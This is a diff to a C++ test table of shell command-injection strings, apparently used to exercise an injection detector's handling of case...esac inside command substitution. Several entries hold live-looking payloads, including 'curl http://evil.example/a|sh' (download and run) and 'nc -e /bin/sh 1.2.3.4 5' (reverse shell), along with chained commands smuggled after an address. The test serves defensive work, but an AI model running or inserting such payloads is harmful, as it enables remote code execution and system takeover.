@@ -23,6 +23,14 @@ struct Row {
 };
 
 constexpr Row kAttacks[] = {
+    // The end of a case in a substitution stands wherever a pattern or a command may begin
+    {"\"$(case x in esac)\";id", "balanced"},
+    {"x;\"$(case x in x)esac)\";curl http://evil.example/a|sh", "low"},
+    {"x;\"$(case x in y);; esac)\";curl http://evil.example/a|sh", "low"},
+    {"\"$(case x in y);; esac)\";id", "balanced"},
+    {"x;\"$(case x in esac)\";id", "balanced"},
+    {"x;\"$(case x in a|esac) :;;\nesac)\";id", "balanced"},
+    {"x;\"$(case x in esac)\";nc -e /bin/sh 1.2.3.4 5", "low"},
     // cmd.exe's switches in the word of its command; numbers in place of words; programs by their paths
     {"127.0.0.1&dir/s c:\\", "low"},
     {"{\nid\n}", "balanced"},
